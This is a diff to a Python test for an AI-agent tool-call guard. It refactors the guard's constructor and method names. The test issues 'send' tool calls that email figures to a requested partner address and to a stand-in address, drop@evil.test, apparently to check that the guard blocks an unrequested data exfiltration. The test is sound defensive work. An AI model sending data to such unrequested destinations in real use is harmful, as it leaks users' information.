@@ -15,7 +15,10 @@ from guard.adapters.credentials.label_key import load_label_key
 from guard.adapters.redis.store import RedisSessionStore
 from guard.core.calls import ToolResult
 from guard.core.model import Identity, ToolCall
+from guard.decision.decision_log import Records
 from guard.decision.guard import Guard
+from guard.decision.outcome import JudgeRequest
+from guard.decision.stores import Stores
 from guard.policy_files import load_policies
 from guard.provenance.seal import Seal
 from guard.replay.run import ErrorCounter
@@ -66,20 +69,18 @@ def sends(redis_server, tmp_path, redis_namespace, now):
     async def play():
         store = RedisSessionStore.at(redis_server.url, timeout=60.0)
         guard = Guard(
-            policy=load_policies([path]),
-            store=store,
-            detectors=(),
-            audit=NoAuditLog(),
-            metrics=ErrorCounter(),
+            load_policies([path]),
+            Stores(store),
+            Records(NoAuditLog(), ErrorCounter()),
             seal=seal,
         )
         alice = Identity("alice", "s", tenant=redis_namespace)
-        await guard.note_prompt(alice, "Send the figures to pat@partner.test.", now)
+        await guard.notes.prompt(alice, "Send the figures to pat@partner.test.", now)
         verdicts = []
         for number, to in enumerate(("pat@partner.test", "drop@evil.test")):
             arguments = {"to": to, "body": "figures"}
             call = ToolCall(f"deadbeef0{number}", alice, "send", arguments, "test", now)
-            [(traced, verdict)] = await guard.authorize([call])
+            [(traced, verdict)] = await guard.judge(JudgeRequest([call]))
             verdicts.append(verdict.enforced.label)
             if verdict.enforced.forwards:
                 await guard.observe(ToolResult(traced, "sent", now))
